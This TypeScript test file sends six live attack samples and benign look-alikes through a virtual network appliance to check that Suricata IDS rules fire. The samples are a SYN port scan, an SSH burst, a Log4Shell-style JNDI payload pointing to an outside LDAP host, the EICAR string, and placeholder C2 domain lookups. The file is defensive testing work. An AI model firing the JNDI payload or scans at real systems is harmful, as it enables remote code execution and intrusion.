/**
 * The IDS area's live samples: the six attacks of test/ids/lib/samples.ts (there written as captures and read by
 * `suricata -r`), here sent from the internet host through the virtual appliance with ordinary tools, each with its
 * benign look-alike from another internet source on the same path. The attacks that carry data go to the site's
 * forward (HTTP and TLS to its port: they pass the inline pair where the site names it); the scan, the SSH burst
 * and the C2 lookup go to the router's WAN address, where Suricata's capture on the WAN link sees them whatever
 * the router's input does with them.
 *
 * A sample's tools: netprobe (one SYN per probe, test/e2e/tools/netprobe.c) for the scan and the SSH burst, dig
 * for the lookup, curl for HTTP and TLS (its ClientHello names the server given by --resolve, over OpenSSL).
 */
import { join } from "node:path";
import type { Appliance } from "../appliance";
import { probe } from "../checks";
import type { Daemon } from "../exec";

/** What a sample needs of the running area. */
export interface Target {
  /** The primary WAN's address and the forward's public port. */
  wan: string;
  port: number;
  /** Where the forwarded host serves while a sample runs. */
  serve: "http" | "tls";
}

/** How a request went: answered by the forwarded host's server (undefined where nothing could answer). */
export interface Outcome {
  answered?: boolean;
  detail: string;
}

export interface LiveSample {
  name: string;
  /** The rule that must fire (the site's local rules: Pulumi.dev.yaml router:ids.rules.local). */
  sid: number;
  /** Through the forward by a drop rule: where the forward leads into an inline pair, Suricata drops it. */
  inline: boolean;
  /** What the forwarded host serves while the sample runs. */
  serve: Target["serve"];
  attack: (app: Appliance, t: Target, src: string) => Promise<Outcome>;
  benign: (app: Appliance, t: Target, src: string) => Promise<Outcome>;
}

export const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
export const JNDI = "${jndi:ldap://198.51.100.7:1389/Exploit}";

/**
 * One curl from an internet source to the forward; answered when the server sent an HTTP response (any status) or,
 * over TLS, completed the handshake and answered. `extra` are curl's own arguments before the URL.
 */
async function curl(app: Appliance, src: string, extra: string[], url: string): Promise<Outcome> {
  const argv = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "3", "--interface", src, ...extra, url];
  const r = await app.run(app.inet, argv, { allowFail: true });
  return { answered: r.status === 0 && r.stdout !== "000", detail: `curl exit ${r.status}, HTTP ${r.stdout}` };
}

function http(app: Appliance, t: Target, src: string, extra: string[]): Promise<Outcome> {
  return curl(app, src, extra, `http://${t.wan}:${t.port}/index.html`);
}

/** A TLS request whose ClientHello names `sni` (resolved to the WAN address; the server's certificate is not checked). */
function tls(app: Appliance, t: Target, src: string, sni: string): Promise<Outcome> {
  return curl(app, src, ["-k", "--resolve", `${sni}:${t.port}:${t.wan}`], `https://${sni}:${t.port}/`);
}

/** `count` SYNs from src to a port range of the WAN address (netprobe: one connection attempt per probe). */
async function syns(app: Appliance, t: Target, src: string, ports: number[]): Promise<Outcome> {
  const res = await probe(
    app,
    app.inet,
    ports.map((port, i) => ({ id: `p${i}`, proto: "tcp" as const, dst: t.wan, port, src, timeoutMs: 600 })),
    { gapUs: 10_000 },
  );
  return { detail: [...res.values()].map((r) => r.raw).join("; ") };
}

/** One DNS query from src to the WAN address (port 53, UDP), one try. */
async function lookup(app: Appliance, t: Target, src: string, name: string): Promise<Outcome> {
  const argv = ["dig", "+tries=1", "+time=1", "-b", src, `@${t.wan}`, name, "A"];
  const r = await app.run(app.inet, argv, { allowFail: true });
  return { detail: `dig exit ${r.status}: ${r.stdout.split("\n").find((l) => l.includes("status")) ?? "no answer"}` };
}

const range = (from: number, n: number) => Array.from({ length: n }, (_, i) => from + i);

/** The samples in the order they run; the rules' sids follow test/ids/lib/samples.ts. */
export const LIVE_SAMPLES: LiveSample[] = [
  {
    name: "a port scan of the WAN address",
    sid: 9100001,
    inline: false,
    serve: "http",
    // 30 SYNs to 30 ports in 0.3 s: the rule's threshold is 20 in 10 s from one source
    attack: (app, t, src) => syns(app, t, src, range(1000, 30)),
    // a client opening a handful of connections to the one published service
    benign: async (app, t, src) => {
      const all = [];
      for (let i = 0; i < 5; i++) all.push(await http(app, t, src, []));
      return { answered: all.every((o) => o.answered), detail: all.map((o) => o.detail).join("; ") };
    },
  },
  {
    name: "an SSH brute-force burst against the WAN address",
    sid: 9100002,
    inline: false,
    serve: "http",
    // 10 new connections to port 22: the rule's threshold is 6 in 60 s from one source
    attack: (app, t, src) => syns(app, t, src, Array<number>(10).fill(22)),
    // an administrator trying twice
    benign: (app, t, src) => syns(app, t, src, [22, 22]),
  },
  {
    name: "a JNDI lookup in an HTTP request to the forward",
    sid: 9100003,
    inline: true,
    serve: "http",
    attack: (app, t, src) => http(app, t, src, ["-A", JNDI]),
    // a page about JNDI, asked for by an ordinary browser
    benign: (app, t, src) => http(app, t, src, ["-A", "Mozilla/5.0 (jndi reader)", "-H", "X-Doc: jndi-lookup-guide"]),
  },
  {
    name: "EICAR posted over HTTP to the forward",
    sid: 9100004,
    inline: true,
    serve: "http",
    attack: (app, t, src) =>
      http(app, t, src, ["--data-binary", EICAR, "-H", "Content-Type: application/octet-stream"]),
    // a text that names the test file without being it
    benign: (app, t, src) =>
      http(app, t, src, ["--data-binary", "notes: EICAR-STANDARD-ANTIVIRUS-TEST-FILE is a test string"]),
  },
  {
    name: "a lookup of a blocklisted C2 domain at the WAN address",
    sid: 9100005,
    inline: false,
    serve: "http",
    attack: (app, t, src) => lookup(app, t, src, "update.evil-c2.example"),
    // a name ending in the same letters, in another domain
    benign: (app, t, src) => lookup(app, t, src, "update.notevil-c2.example"),
  },
  {
    name: "TLS to a known-bad server name through the forward",
    sid: 9100006,
    inline: true,
    serve: "tls",
    attack: (app, t, src) => tls(app, t, src, "panel.evil-c2.example"),
    // the same name under another parent domain
    benign: (app, t, src) => tls(app, t, src, "panel.evil-c2.example.org"),
  },
];

/**
 * Starts the forwarded host's server for a sample: busybox httpd for HTTP, `openssl s_server -www` with a
 * self-signed certificate made in the area's directory for TLS. Both listen on the forward's target address and port.
 */
export function startServer(app: Appliance, ns: string, addr: string, port: number, kind: Target["serve"]): Daemon {
  const dir = join(app.work, "ids-www");
  if (kind === "http")
    return app.daemons.start(
      "ids-httpd",
      ["ip", "netns", "exec", ns, "busybox", "httpd", "-f", "-p", `${addr}:${port}`, "-h", dir],
      join(app.work, "ids-httpd.log"),
    );
  const [cert, key] = [join(dir, "tls.crt"), join(dir, "tls.key")];
  app.exec(app.inet, [
    ...["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"],
    ...["-subj", "/CN=forwarded-host", "-days", "1", "-keyout", key, "-out", cert],
  ]);
  return app.daemons.start(
    "ids-tls",
    [
      "ip",
      "netns",
      "exec",
      ns,
      "openssl",
      "s_server",
      "-accept",
      `${addr}:${port}`,
      "-cert",
      cert,
      "-key",
      key,
      "-www",
    ],
    join(app.work, "ids-tls.log"),
  );
}
